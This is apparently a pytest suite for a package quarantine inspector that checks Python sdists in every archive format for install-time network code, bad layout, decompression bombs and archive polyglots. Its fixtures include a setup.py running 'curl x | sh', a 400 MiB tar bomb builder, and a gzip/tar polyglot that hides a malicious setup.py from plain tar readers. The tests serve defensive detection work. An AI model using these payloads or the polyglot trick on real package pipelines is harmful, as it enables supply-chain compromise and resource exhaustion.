"""The inspector reads an sdist in every archive format pip installs, as it reads .tar.gz.

The sdist rules (install-time code in ``setup.py``, one top directory with ``PKG-INFO``)
run whatever the compression, and a bomb or a broken archive in any of them is a verdict
after bounded work, never a crash.
"""

import bz2
import gzip
import io
import lzma
import tarfile
import tracemalloc
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import pytest

from quarantine.evidence import Action
from quarantine.inspect.archive.reader import MiB
from quarantine.inspect.check import Inspection, inspect_file
from support.dists import SDIST_SUFFIXES, Dist, build_sdist

FORMATS = pytest.mark.parametrize("suffix", SDIST_SUFFIXES)
SETUP_NETWORK = (
    "import urllib.request\nfrom setuptools import setup\n"
    'urllib.request.urlopen("https://example.invalid/x")\nsetup()\n'
)
Compressor = Callable[[bytes], bytes]


def _xz(data: bytes) -> bytes:
    return lzma.compress(data, format=lzma.FORMAT_XZ)


def _gzip(data: bytes) -> bytes:
    return gzip.compress(data, mtime=0)


# Formats whose streams may be concatenated (a valid file of many streams), for bombs.
STREAMS: dict[str, Compressor] = {".tar.gz": _gzip, ".tar.bz2": bz2.compress, ".tar.xz": _xz}


def inspect_at(tmp_path: Path, filename: str, data: bytes) -> Inspection:
    path = tmp_path / filename
    path.write_bytes(data)
    return inspect_file(path, filename, None)


def inspect_dist(tmp_path: Path, dist: Dist) -> Inspection:
    return inspect_at(tmp_path, dist.filename, dist.data)


def rules(inspection: Inspection) -> set[str]:
    return {f.rule for f in inspection.findings}


def verdict(inspection: Inspection) -> Action:
    return inspection.evidence().action


@FORMATS
def test_a_clean_sdist_passes_in_every_format(tmp_path: Path, suffix: str) -> None:
    dist = build_sdist("demo", "1.0", suffix=suffix, buildable=True)
    inspection = inspect_dist(tmp_path, dist)
    assert verdict(inspection) is Action.PASS, inspection.findings
    summary = inspection.summary
    assert summary is not None and summary.kind == "sdist"
    assert summary.entry_count >= 4  # PKG-INFO, pyproject.toml, the backend, the package


@FORMATS
def test_install_time_code_in_setup_py_is_found_in_every_format(
    tmp_path: Path, suffix: str
) -> None:
    dist = build_sdist("demo", "1.0", suffix=suffix, modules={"setup.py": SETUP_NETWORK})
    inspection = inspect_dist(tmp_path, dist)
    found = [f for f in inspection.findings if f.rule == "setup-network"]
    assert found and found[0].path == "demo-1.0/setup.py", inspection.findings
    assert verdict(inspection) is Action.REVIEW


@FORMATS
def test_the_sdist_layout_rule_runs_in_every_format(tmp_path: Path, suffix: str) -> None:
    dist = build_sdist("demo", "1.0", suffix=suffix)
    # The same files with a second top directory beside the sdist's own.
    stray = build_sdist("stray", "1.0", suffix=suffix)
    two_tops = _merged(dist, stray, suffix)
    inspection = inspect_at(tmp_path, dist.filename, two_tops)
    assert "sdist-layout" in rules(inspection), inspection.findings
    assert verdict(inspection) is Action.REVIEW


def _merged(first: Dist, second: Dist, suffix: str) -> bytes:
    """One archive in ``suffix``'s format with the members of both sdists."""
    buffer = io.BytesIO()
    if suffix == ".zip":
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as out:
            for dist in (first, second):
                with zipfile.ZipFile(io.BytesIO(dist.data)) as archive:
                    for info in archive.infolist():
                        out.writestr(info, archive.read(info))
        return buffer.getvalue()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as out:
        for dist in (first, second):
            with tarfile.open(fileobj=io.BytesIO(dist.data), mode="r:*") as archive:
                for member in archive.getmembers():
                    out.addfile(member, archive.extractfile(member) if member.isreg() else None)
    return _recompress(buffer.getvalue(), first.filename)


def _recompress(tar: bytes, filename: str) -> bytes:
    if filename.endswith((".tar.gz", ".tgz")):
        return _gzip(tar)
    if filename.endswith((".tar.bz2", ".tbz")):
        return bz2.compress(tar)
    if filename.endswith((".tlz", ".tar.lzma")):
        return lzma.compress(tar, format=lzma.FORMAT_ALONE)
    if filename.endswith((".tar.xz", ".txz", ".tar.lz")):
        return _xz(tar)
    return tar


@pytest.mark.parametrize("suffix", sorted(STREAMS))
def test_a_tar_bomb_is_stopped_in_every_compression(tmp_path: Path, suffix: str) -> None:
    """400 MiB of zeros in a few KiB: stopped past the ratio limit, in bounded memory."""
    compress = STREAMS[suffix]
    path = tmp_path / f"demo-1.0{suffix}"
    header = tarfile.TarInfo("demo-1.0/zeros.bin")
    header.size = 400 * MiB
    zeros = compress(bytes(MiB))
    with path.open("wb") as out:
        out.write(compress(header.tobuf(tarfile.USTAR_FORMAT)))
        for _ in range(400):
            out.write(zeros)
        out.write(compress(bytes(1024)))
    assert path.stat().st_size < MiB
    tracemalloc.start()
    try:
        inspection = inspect_file(path, path.name, None)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert "archive-bomb-ratio" in rules(inspection), inspection.findings
    assert inspection.summary is None and verdict(inspection) is Action.BLOCK
    assert peak < 64 * MiB


@pytest.mark.parametrize("suffix", [s for s in SDIST_SUFFIXES if s not in (".tar", ".zip")])
def test_broken_compressed_sdists_are_malformed(tmp_path: Path, suffix: str) -> None:
    good = build_sdist("demo", "1.0", suffix=suffix, modules={"setup.py": "x = 1\n" * 2000})
    cases = {
        "truncated": good.data[: len(good.data) // 2],
        "not-compressed": b"this is not compressed data at all " * 40,
        "another-compression": build_sdist("demo", "1.0", suffix=_other(suffix)).data,
    }
    for label, data in cases.items():
        inspection = inspect_at(tmp_path, good.filename, data)
        assert "archive-malformed" in rules(inspection), (label, inspection.findings)
        assert verdict(inspection) is Action.BLOCK, label


def _other(suffix: str) -> str:
    return ".tar.xz" if suffix in (".tar.gz", ".tgz", ".tar.bz2", ".tbz") else ".tar.bz2"


def test_a_real_lzip_file_reads_as_pip_reads_it(tmp_path: Path) -> None:
    # pip opens .tar.lz with tarfile's "r:xz", whose decoder takes data without the xz
    # magic for legacy .lzma: an lzip file decodes to zeros, an empty tar, nothing to
    # build. The inspector sees the same and a person has to look.
    lzip = b"LZIP\x01\x0c" + bytes(64)
    inspection = inspect_at(tmp_path, "demo-1.0.tar.lz", lzip)
    assert inspection.summary is not None and inspection.summary.entry_count == 0
    assert "sdist-layout" in rules(inspection)
    assert verdict(inspection) is Action.REVIEW


@pytest.mark.parametrize("suffix", [".tar.bz2", ".tar.xz", ".tgz", ".tar"])
def test_a_tar_sdist_that_also_reads_as_a_zip_is_blocked(tmp_path: Path, suffix: str) -> None:
    sdist = build_sdist("demo", "1.0", suffix=suffix)
    zipped = build_sdist("demo", "1.0", suffix=".zip", modules={"setup.py": "import os\n"})
    inspection = inspect_at(tmp_path, sdist.filename, sdist.data + zipped.data)
    assert "archive-polyglot" in rules(inspection)
    assert verdict(inspection) is Action.BLOCK


# -- a plain .tar whose bytes are compressed ---------------------------------------------------
SETUP_SHELL = "import os\nfrom setuptools import setup\nos.system('curl x | sh')\nsetup()\n"


def _gzip_hiding_a_decoy(decoy: bytes, payload: bytes) -> bytes:
    """A gzip stream of ``payload`` whose header's FEXTRA field holds the tar ``decoy``.

    The gzip header is the start of the decoy's first block: a pax header, whose name
    field tar readers ignore, so the same bytes read as the decoy when read as a plain tar.
    """
    extra_length = len(decoy) - 12  # the gzip header's fixed part and XLEN fill 12 bytes
    header = b"\x1f\x8b\x08\x04" + b"demo" + b"\x00\x03" + extra_length.to_bytes(2, "little")
    first = bytearray(decoy[:512])
    assert first[156:157] == b"x", "the decoy must start with a pax header"
    first[: len(header)] = header
    first[148:156] = b" " * 8
    first[148:156] = b"%06o\x00 " % sum(first)
    squeezer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    deflated = squeezer.compress(payload) + squeezer.flush()
    trailer = zlib.crc32(payload).to_bytes(4, "little") + len(payload).to_bytes(4, "little")
    return bytes(first) + decoy[512:] + deflated + trailer


def _tar_with_pax_first(dist: Dist) -> bytes:
    """``dist``'s members again as a pax tar whose first block is a pax header."""
    buffer = io.BytesIO()
    with (
        tarfile.open(fileobj=io.BytesIO(dist.data), mode="r:gz") as source,
        tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as out,
    ):
        for number, member in enumerate(source.getmembers()):
            if number == 0:
                member.pax_headers = {"comment": "decoy"}
            out.addfile(member, source.extractfile(member))
    return buffer.getvalue()


def test_a_tar_hiding_a_compressed_tar_from_a_plain_reading_is_blocked(tmp_path: Path) -> None:
    decoy = _tar_with_pax_first(build_sdist("demo", "1.0"))
    hostile = build_sdist("demo", "1.0", modules={"setup.py": SETUP_SHELL})
    with gzip.open(io.BytesIO(hostile.data)) as unpacked:
        payload = unpacked.read()
    path = tmp_path / "demo-1.0.tar"
    path.write_bytes(_gzip_hiding_a_decoy(decoy, payload))
    # pip opens a .tar with tarfile's "r" (compressions first, plain tar last): the payload.
    with tarfile.open(path, "r") as as_pip_reads:
        setup_py = as_pip_reads.extractfile("demo-1.0/setup.py")
        assert setup_py is not None and b"curl" in setup_py.read()
    with tarfile.open(path, "r:") as as_plain_tar:  # the decoy, with no setup.py at all
        assert "demo-1.0/setup.py" not in as_plain_tar.getnames()
        assert "demo-1.0/PKG-INFO" in as_plain_tar.getnames()
    inspection = inspect_file(path, path.name, None)
    assert "archive-polyglot" in rules(inspection), inspection.findings
    assert verdict(inspection) is Action.BLOCK


def _lzma_alone(data: bytes) -> bytes:
    return lzma.compress(data, format=lzma.FORMAT_ALONE)


def _zstd_frame(data: bytes) -> bytes:
    # Python 3.14's tarfile tries zstd too; the mirror needs no zstd codec to see the magic.
    return b"\x28\xb5\x2f\xfd" + bytes(16)


@pytest.mark.parametrize(
    "compress",
    [_gzip, bz2.compress, _xz, _lzma_alone, _zstd_frame],
    ids=["gzip", "bzip2", "xz", "lzma", "zstd"],
)
def test_a_tar_whose_bytes_are_compressed_is_blocked(tmp_path: Path, compress: Compressor) -> None:
    with gzip.open(io.BytesIO(build_sdist("demo", "1.0").data)) as unpacked:
        plain = unpacked.read()
    inspection = inspect_at(tmp_path, "demo-1.0.tar", compress(plain))
    assert "archive-polyglot" in rules(inspection), inspection.findings
    assert verdict(inspection) is Action.BLOCK
